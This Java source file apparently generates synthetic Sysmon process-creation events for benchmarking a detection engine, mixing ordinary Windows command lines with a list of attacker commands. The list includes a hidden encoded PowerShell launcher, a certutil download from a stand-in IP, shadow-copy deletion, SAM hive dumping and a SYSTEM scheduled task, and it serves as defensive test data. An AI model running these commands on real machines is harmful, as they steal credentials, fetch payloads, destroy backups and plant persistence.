package dev.vedette.benchmarks;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * Events as Sysmon's process creation has them, with Sigma's field names: about 700 bytes of JSON each. What ordinary
 * hosts do, now and then what attackers do. Synthetic; the same seed gives the same events.
 */
final class WindowsEvents {

    private static final String[] IMAGES = {
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\System32\\conhost.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "C:\\Windows\\System32\\taskhostw.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25\\MsMpEng.exe"
    };
    private static final String[] ARGUMENTS = {
        "-k netsvcs -p -s Schedule",
        "--type=renderer --lang=en-US --device-scale-factor=1",
        "0xffffffff -ForceV1",
        "-secured -Embedding",
        "/n \"C:\\Users\\%s\\Documents\\report-%d.docx\"",
        "-NoProfile -File C:\\Scripts\\inventory-%d.ps1",
        "/c dir C:\\Users\\%s",
        "--contentproc --channel=%d",
        "shell32.dll,Control_RunDLL",
        "-Embedding"
    };
    private static final String[] SUSPICIOUS = {
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "whoami /all",
        "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
        "cmd.exe /c vssadmin delete shadows /all /quiet",
        "reg save HKLM\\SAM C:\\Temp\\sam.hiv",
        "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon /ru SYSTEM"
    };
    private static final String[] USERS = {"alice", "bob", "carol", "dave", "svc-backup"};
    private static final String[] LEVELS = {"Medium", "Medium", "Medium", "High", "System"};

    private WindowsEvents() {}

    /** @param suspicious share of command lines that an attacker would type, 0 to 1 */
    static List<String> generate(int number, double suspicious, long seed) {
        Random random = new Random(seed);
        List<String> events = new ArrayList<>(number);
        for (int i = 0; i < number; i++) {
            events.add(event(random, suspicious));
        }
        return events;
    }

    private static String event(Random random, double suspicious) {
        String image = pick(random, IMAGES);
        String user = pick(random, USERS);
        String commandLine =
                random.nextDouble() < suspicious ? pick(random, SUSPICIOUS) : commandLine(random, image, user);
        String parent = pick(random, IMAGES);
        return "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"UtcTime\":\"2026-11-0%d 10:%02d:%02d.%03d\""
                        .formatted(1 + random.nextInt(9), random.nextInt(60), random.nextInt(60), random.nextInt(1000))
                + ",\"ProcessGuid\":\"" + guid(random) + "\",\"ProcessId\":" + (1000 + random.nextInt(60000))
                + ",\"Image\":" + quoted(image)
                + ",\"OriginalFileName\":" + quoted(image.substring(image.lastIndexOf('\\') + 1))
                + ",\"CommandLine\":" + quoted(commandLine)
                + ",\"CurrentDirectory\":" + quoted("C:\\Users\\" + user + "\\")
                + ",\"User\":" + quoted("CORP\\" + user)
                + ",\"LogonId\":\"0x" + Integer.toHexString(random.nextInt(1 << 24)) + "\""
                + ",\"IntegrityLevel\":\"" + pick(random, LEVELS) + "\""
                + ",\"Hashes\":\"SHA256=" + hex(random, 64).toUpperCase(Locale.ROOT) + "\""
                + ",\"ParentProcessId\":" + (500 + random.nextInt(60000))
                + ",\"ParentImage\":" + quoted(parent)
                + ",\"ParentCommandLine\":" + quoted(commandLine(random, parent, user)) + "}";
    }

    private static String commandLine(Random random, String image, String user) {
        String arguments = pick(random, ARGUMENTS).replace("%s", user);
        return "\"" + image + "\" " + arguments.replace("%d", Integer.toString(random.nextInt(100_000)));
    }

    private static String pick(Random random, String[] from) {
        return from[random.nextInt(from.length)];
    }

    private static String guid(Random random) {
        return "{" + hex(random, 8) + "-" + hex(random, 4) + "-" + hex(random, 4) + "-" + hex(random, 12) + "}";
    }

    private static String hex(Random random, int length) {
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append(Character.forDigit(random.nextInt(16), 16));
        }
        return text.toString();
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }
}
